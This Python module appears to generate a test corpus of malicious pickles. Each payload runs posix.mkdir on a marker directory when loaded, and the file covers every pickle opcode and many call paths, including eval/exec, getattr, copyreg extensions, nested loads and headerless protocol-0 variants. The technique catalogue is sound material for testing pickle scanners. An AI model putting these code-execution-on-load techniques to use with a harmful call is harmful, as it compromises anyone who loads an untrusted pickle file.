"""Pickles that run code when they are loaded: every opcode of the protocol, every way to call something.

Payload number i makes the directory i below a given one when it is loaded, so that whoever loads it is seen.
"""

import pickletools
import struct
from pathlib import Path

# One argument of each kind, as bytes.
ARGUMENTS = {
    "uint1": b"\x01", "uint2": b"\x01\x00", "int4": b"\x01\x00\x00\x00", "uint4": b"\x01\x00\x00\x00",
    "uint8": struct.pack("<Q", 0), "stringnl": b"'text'\n", "stringnl_noescape": b"text\n",
    "stringnl_noescape_pair": b"builtins\nobject\n", "unicodestringnl": b"text\n", "string1": b"\x01t",
    "string4": b"\x01\x00\x00\x00t", "bytes1": b"\x01b", "bytes4": b"\x01\x00\x00\x00b",
    "bytes8": struct.pack("<Q", 1) + b"b", "bytearray8": struct.pack("<Q", 1) + b"b", "unicodestring1": b"\x01u",
    "unicodestring4": b"\x01\x00\x00\x00u", "unicodestring8": struct.pack("<Q", 1) + b"u", "decimalnl_short": b"1\n",
    "decimalnl_long": b"1L\n", "floatnl": b"1.5\n", "float8": struct.pack(">d", 1.5), "long1": b"\x01\x01",
    "long4": b"\x01\x00\x00\x00\x01",
}  # fmt: skip

OPCODES = pickletools.opcodes


def text(path: Path) -> bytes:
    return b"V" + str(path).encode() + b"\n"


def called(module: str, name: str, path: Path) -> bytes:
    return b"c" + f"{module}\n{name}\n".encode() + b"(" + text(path) + b"tR"


def short(word: str) -> bytes:
    return b"\x8c" + bytes([len(word)]) + word.encode()


def calls(path: Path) -> list[bytes]:
    """Ways to call posix.mkdir(path)."""
    mkdir = b"cposix\nmkdir\n"
    expression = b"V__import__('os').mkdir(" + repr(str(path)).encode() + b")\n"
    inner = b"\x80\x02" + called("posix", "mkdir", path) + b"."
    extension = b"ccopyreg\nadd_extension\n(Vposix\nVmkdir\nK\xf0tR0"
    return [
        called("posix", "mkdir", path),  # GLOBAL, REDUCE
        called("os", "mkdir", path),
        short("posix") + short("mkdir") + b"\x93" + text(path) + b"\x85R",  # STACK_GLOBAL, TUPLE1
        b"(" + text(path) + b"iposix\nmkdir\n",  # INST
        b"(" + mkdir + text(path) + b"o",  # OBJ
        b"cfunctools\npartial\n(" + mkdir + text(path) + b"t\x81(tR",  # NEWOBJ
        b"cfunctools\npartial\n(" + mkdir + text(path) + b"t}\x92(tR",  # NEWOBJ_EX
        b"ctypes\nSimpleNamespace\n(tR}V__setstate__\n" + mkdir + b"sb" + text(path) + b"b",  # BUILD
        extension + b"\x82\xf0(" + text(path) + b"tR",  # EXT1
        extension + b"\x83\xf0\x00(" + text(path) + b"tR",  # EXT2
        extension + b"\x84\xf0\x00\x00\x00(" + text(path) + b"tR",  # EXT4
        b"cbuiltins\neval\n(" + expression + b"tR",
        b"cbuiltins\nexec\n(" + expression + b"tR",
        b"cbuiltins\ngetattr\n(cposix\n__dict__\nVget\ntR(Vmkdir\ntR(" + text(path) + b"tR",
        b"coperator\nmethodcaller\n(Vmkdir\ntR(cpathlib\nPath\n(" + text(path) + b"tRtR",
        b"cpickle\nloads\n(B" + struct.pack("<I", len(inner)) + inner + b"tR",  # a pickle in a pickle
        b"c_pickle\nloads\n(B" + struct.pack("<I", len(inner)) + inner + b"tR",
        mkdir + b"q\x000(h\x00" + text(path) + b"o",  # by way of the memo
        b"\x95" + struct.pack("<Q", len(called("posix", "mkdir", path))) + called("posix", "mkdir", path),  # FRAME
        b"cbuiltins\nlist\n(cbuiltins\nmap\n(" + mkdir + b"]" + text(path) + b"atRtR",
    ]


def with_opcode(opcode: pickletools.OpcodeInfo, path: Path) -> bytes:
    """Calls first, then uses `opcode` on a stack that suits most."""
    argument = ARGUMENTS[opcode.arg.name] if opcode.arg else b""
    return called("posix", "mkdir", path) + b"0(NN}]((NN" + opcode.code.encode("latin-1") + argument


def payloads(markers: Path) -> list[bytes]:
    """All payloads; the i-th makes the directory `markers / str(i)` when it is loaded."""
    protocol = b"\x80\x05"
    ways = len(calls(markers))
    made = [protocol + calls(markers / str(i))[i] + b"." for i in range(ways)]
    made += [with_opcode(opcode, markers / str(ways + i)) + b"." for i, opcode in enumerate(OPCODES)]
    # Once more as protocol 0, without the header that says what they are.
    again = len(made)
    made += [calls(markers / str(again + i))[i] + b"." for i in range(ways)]
    return made
